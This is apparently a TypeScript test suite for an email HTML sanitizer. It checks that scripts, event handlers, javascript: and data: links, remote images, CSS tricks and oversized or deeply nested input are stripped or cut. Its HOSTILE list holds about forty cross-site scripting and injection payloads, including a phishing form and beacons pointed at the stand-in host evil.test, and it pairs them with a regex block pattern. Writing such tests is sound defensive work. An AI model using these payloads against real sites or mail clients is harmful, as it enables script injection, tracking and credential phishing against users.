import assert from "node:assert/strict";
import { test } from "node:test";
import { htmlToText, safeHtml } from "./html.ts";

const clean = (html: string, images: "blocked" | "shown" = "blocked") =>
  safeHtml(html, { images, cid: (id) => (id === "dot@far.test" ? "/files/7" : undefined) });

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src='javascript:alert(1)'>",
  '<img """><script>alert(1)</script>">',
  "<img src=`x` onerror=alert(1)//`>",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/logout">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="#top" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.test"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  "<style>@import 'https://evil.test/x.css'; body{display:none}</style>",
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="background:url(https://evil.test/p.gif)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="margin-top:-5000px">x</div>',
  '<div style="-moz-binding:url(https://evil.test/x.xml#a)">x</div>',
  '<table background="https://evil.test/p.gif"><td background="https://evil.test/p.gif">x</td></table>',
  '<body onload="alert(1)" background="https://evil.test/p.gif">x',
  '<video poster="https://evil.test/p.gif" src="x" onerror="alert(1)"></video><audio src=x autoplay>',
  '<img srcset="https://evil.test/p.gif 1x" src="cid:nothing">',
  '<p id="login" class="menu admin">x</p>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<details ontoggle="alert(1)" open>x</details><marquee onstart="alert(1)">x</marquee>',
  "<p\u0000 onclick=alert(1)>x</p><a href='java\u0000script:alert(1)'>x</a>",
];

test("nothing that runs, reaches out or leaves its place comes through", () => {
  for (const html of HOSTILE) {
    const safe = clean(html).html;
    // what stays of the words "alert(1)" is text; a tag or an attribute it must not be
    const tags = safe.match(/<[^>]*>/g)?.join(" ") ?? "";
    assert.doesNotMatch(
      tags,
      /script|evil|javascript|\son\w+\s*=|<(?:iframe|object|embed|form|input|button|svg|math|meta|base|link|style|video|audio|template)|url\(|expression|position|-5000|srcset|background=|\sid=|class="(?!left-out-image")|data:|href="(?!https?:|mailto:)/i,
      `${html}\n→ ${safe}`,
    );
  }
});

test("what people write stays", () => {
  const html =
    '<h1>Chapter</h1><p style="color:red;text-align:center">two <b>bold</b> <i>x</i></p><table border="1"><tr><td colspan="2">x</td></tr></table><blockquote>q</blockquote><ul><li>a</li></ul>';
  assert.equal(clean(html).html, html.replace("color:red;text-align:center", "color:red;text-align:center"));
});

test("links open apart and tell nobody where they were", () => {
  assert.equal(
    clean('<a href="https://far.test/a?b=1&amp;c=2" target="_top" onclick="x()">x</a>').html,
    '<a href="https://far.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
  assert.match(clean('<a href="MAILTO:ana@far.test">x</a>').html, /href="mailto:ana@far\.test"/);
});

test("pictures from outside wait until they are asked for", () => {
  const html =
    '<p><img src="http://far.test/p.gif" alt="Our <new> house" width="600"><img src="//far.test/q.gif"> end</p>';
  const blocked = clean(html);
  assert.equal(blocked.remoteImages, 2);
  assert.match(blocked.html, /<span class="left-out-image">\[image: Our &lt;new&gt; house\]<\/span>/);
  assert.doesNotMatch(blocked.html, /far\.test/);
  assert.match(blocked.html, / end<\/p>$/);
  const shown = clean(html, "shown");
  assert.equal(shown.remoteImages, 2);
  assert.match(
    shown.html,
    /<img alt="Our &lt;new&gt; house" src="http:\/\/far\.test\/p\.gif"|src="http:\/\/far\.test\/p\.gif"/,
  );
  assert.match(shown.html, /referrerpolicy="no-referrer"/);
});

test("pictures that came with the mail are shown from our own address", () => {
  const { html, remoteImages } = clean('<img src="cid:dot%40far.test" alt="dot"><img src="cid:other">');
  assert.equal(remoteImages, 0);
  assert.match(html, /src="\/files\/7"/);
  assert.match(html, /\[image\]/);
  assert.match(
    clean('<img src="data:image/png;base64,iVBORw0KGgo=">').html,
    /src="data:image\/png;base64,iVBORw0KGgo="/,
  );
});

test("a page beyond every measure is cut, and says so", () => {
  const long = clean(`<p>${"long ".repeat(500_000)}</p>`).html;
  assert.ok(long.length < 1_100_000);
  assert.match(long, /longer than 1 MB/);
  const deep = clean("<div>".repeat(200_000)).html;
  assert.ok((deep.match(/<div>/g)?.length ?? 0) <= 101);
  assert.match(deep, /nested too deep/);
  for (const hidden of ["<xx><!--</xx>-->", "<xx></yy>", "<xx a='</xx>'>", "<li><p>", "<xx><script></xx></script>"])
    assert.match(clean(`before${hidden.repeat(20_000)}`).html, /^before[\s\S]*rest is left out/);
  assert.equal(clean(`${"<i><img src='http://far.test/x'>".repeat(600)}`).remoteImages <= 250, true);
  assert.ok(clean("<".repeat(500_000)).html.length > 0);
  assert.equal(clean("<a ".repeat(300_000)).html.includes("<script"), false);
  assert.ok(htmlToText("<blockquote>".repeat(50_000)).length < 100);
});

test("a page is told as text", () => {
  const cases: [string, string][] = [
    ["<p>one</p><p>two</p>", "one\n\ntwo\n"],
    ["a<br>b<br><br>c", "a\nb\n\nc\n"],
    ["<div>a</div><div>b &amp; c &lt;d&gt;</div>", "a\nb & c <d>\n"],
    ["<ul><li>a</li><li>b</li></ul>", "- a\n- b\n"],
    ["<blockquote>q1<br>q2</blockquote>mine", "> q1\n> q2\n\nmine\n"],
    ["<style>p{}</style><script>x()</script><title>t</title>text", "text\n"],
    ["<pre>a  b\n  c</pre>", "a  b\n  c\n"],
    ["<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n"],
    ["many   \n  blanks&nbsp;here", "many blanks here\n"],
    ['<img alt="dot" src="x">', "[dot]\n"],
  ];
  for (const [html, text] of cases) assert.equal(htmlToText(html), text, html);
});
